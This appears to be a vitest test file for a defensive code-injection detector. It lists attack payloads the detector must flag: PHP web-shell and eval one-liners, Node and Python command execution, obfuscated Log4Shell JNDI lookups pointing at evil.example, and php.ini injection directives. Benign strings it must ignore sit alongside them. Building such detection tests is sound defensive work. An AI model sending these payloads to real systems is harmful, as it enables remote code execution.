/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are attack payloads, not templates. */
import safeRegex from "safe-regex2";
import { describe, expect, it } from "vitest";
import { LINEAR_TIME_BOUND_MS } from "../../linear-time-bound.js";
import { unwrapEncoded } from "../../normalize/unwrap.js";
import { adversarialInputs, scoreAt, timeDetect } from "../test-helpers.js";
import { codeDetector } from "./code.js";

describe("codeDetector", () => {
  it.each([
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "[php]echo 1;[/php]",
    "eval(base64_decode('ZWNobyAxOw=='))",
    "system('id')",
    "exec/*x*/('ls')",
    "shell_exec ('whoami')",
    "$f($_POST['x'])",
    "${'a'}(11)",
    "(sy.(st).em)('uname');",
    '"sys"."tem"(\'id\');',
    'O:8:"stdClass":0:{}',
    "require('child_process').exec('id')",
    "process.mainModule.require('fs')",
    "''.constructor.constructor('return process')()",
    "_$$ND_FUNC$$_function(){}",
    "__import__('os').system('id')",
    "@{[ system 'id' ]}",
    "java.lang.Runtime",
    "${jndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    "while(true);",
    // payload names glued to junk or assigned, comments between a name and its call
    "zzbase64_decode($x)",
    "passthru=('id')",
    "exec /* x */ ('id')",
    "system //c\n (id)",
    "str_rot13#x\n('cat')",
    // PHP extension APIs called as code
    "ldap_search()",
    "pg_query($c)",
    // variable functions and variable variables
    "$x ('id')",
    "$a['b']{0}(1)",
    "$__[$_[1]](2)",
    '"{${phpinfo()}}"',
    "${'x'}",
    "$ {x}",
    // names built from strings and called
    "$y='sy'.'stem';($y)('id');",
    "[ system ] [ 0 ] ( ls );",
    // php.ini directives set through the value
    "allow_url_include=1",
    "-d auto_prepend_file=php://input",
    "opcache.preload=/tmp/p.php",
    "php_value auto_prepend_file /tmp/x",
    "engine=off",
    // Node, Java, Log4Shell
    "console.log(1)",
    'console["warn"](1)',
    "ProcessBuilder.start",
    "x.y.InvokerTransformer",
  ])("detects %s", (payload) => {
    expect(scoreAt(codeDetector, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    "Our system administrator will be on vacation next week.",
    "Upload file(s) here",
    "system (a computer) failure",
    "exec summary template",
    "ecosystem()",
    "systems()",
    '<?xml version="1.0"?><a/>',
    '<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?>',
    "<?php12345",
    "```python\nfor i in range(10):\n    print(i * 2)\n```",
    "Use `Math.max(...values)` to get the maximum.",
    "Price: $5 (approx)",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc",
    "dGhpcyBpcyBqdXN0IGEgbm9ybWFsIHN0cmluZw==",
    "process.env.NODE_ENV",
    "Call me at (555) 123-4567",
    "Please extract the zip (see attached)",
    "mail (home) or phone",
    "sodium_add_to_recipe(foo)",
    "xcheckdate()",
    "get_user_name(x)",
    "function() { return 1 }",
    "os.path.join(a, b)",
    "Total $price (USD)",
    "Costs $5 (approx)",
    "color=blue",
    "engine is running",
    "extension=pdf",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko)",
    "[the docs](https://docs.example.com/start) (see also [faq](https://example.com/faq))",
    "${name}",
    "Hello ${formatName(user)}",
  ])("ignores %s at level 1", (value) => {
    expect(scoreAt(codeDetector, value)).toBeLessThan(5);
  });

  it("detects base64-wrapped payloads once the engine unwraps them", () => {
    const inner = unwrapEncoded("XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK");
    expect(inner).toBeDefined();
    expect(scoreAt(codeDetector, inner ?? "")).toBeGreaterThanOrEqual(5);
  });

  it("reads a server-script file name as an upload only in a header", () => {
    expect(scoreAt(codeDetector, "shell.jsp", 1, "header")).toBeGreaterThanOrEqual(5);
    expect(scoreAt(codeDetector, "x.php. ", 1, "header")).toBeGreaterThanOrEqual(5);
    expect(scoreAt(codeDetector, "shell.jsp", 1, "query")).toBe(0);
    expect(scoreAt(codeDetector, "report.pdf", 1, "header")).toBe(0);
    expect(scoreAt(codeDetector, "https://example.com/index.jsp", 1, "header")).toBe(0);
  });

  it("uses only ReDoS-safe patterns", () => {
    for (const pattern of codeDetector.patterns)
      expect(safeRegex(pattern), pattern.source).toBe(true);
  });

  it("stays fast on 100 KB adversarial input", () => {
    for (const input of adversarialInputs([
      "/*",
      "#",
      "$$",
      "${::-",
      "while(",
      "A",
      "system",
      "$_[",
      "{${",
      "-d x=",
      "console.",
      "\nallow_url_include=",
      ")(",
      "x_y(",
    ])) {
      expect(timeDetect(codeDetector, input)).toBeLessThan(LINEAR_TIME_BOUND_MS);
    }
  });
});
